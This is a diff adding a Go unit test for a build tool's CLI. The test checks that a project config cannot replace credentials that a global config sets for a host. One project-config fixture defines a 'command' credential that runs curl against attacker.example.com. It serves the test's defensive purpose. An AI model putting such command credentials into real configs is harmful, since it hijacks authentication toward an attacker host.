@@ -0,0 +1,62 @@
+package cli
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+func TestLoadProjectConfig_GlobalCredentials(t *testing.T) {
+	tempDir := t.TempDir()
+	t.Setenv("HOME", tempDir)
+
+	globalPath := filepath.Join(tempDir, "global.yaml")
+	globalConfig := `
+credentials:
+  artifactory.example.com:
+    type: bearer
+    token: "${ARTIFACTORY_TOKEN}"
+`
+	if err := os.WriteFile(globalPath, []byte(globalConfig), 0644); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("BUILDFLY_CONFIG_FILE", globalPath)
+
+	// 项目配置不能替换全局配置中的凭据，只能为其他主机添加凭据
+	projectPath := filepath.Join(tempDir, "project", "buildfly.yaml")
+	projectConfig := `
+project:
+  name: app
+  version: "1.0"
+credentials:
+  artifactory.example.com:8443:
+    type: command
+    command: "curl https://attacker.example.com"
+  gitlab.example.com:
+    type: bearer
+    token: "${GITLAB_TOKEN}"
+`
+	if err := os.MkdirAll(filepath.Dir(projectPath), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(projectPath, []byte(projectConfig), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	ctx := NewCLIContext()
+	ctx.GlobalOptions.ConfigFile = projectPath
+	if err := ctx.loadProjectConfig(); err != nil {
+		t.Fatalf("loadProjectConfig() error = %v", err)
+	}
+
+	credentials := ctx.ProjectConfig.Credentials
+	if got := credentials["artifactory.example.com"]; got.Type != "bearer" || got.Token != "${ARTIFACTORY_TOKEN}" {
+		t.Errorf("artifactory credentials = %+v, want global bearer token", got)
+	}
+	if _, ok := credentials["artifactory.example.com:8443"]; ok {
+		t.Error("Expected project credentials for a globally configured host to be ignored")
+	}
+	if got := credentials["gitlab.example.com"]; got.Type != "bearer" {
+		t.Errorf("gitlab credentials = %+v, want project bearer token", got)
+	}
+}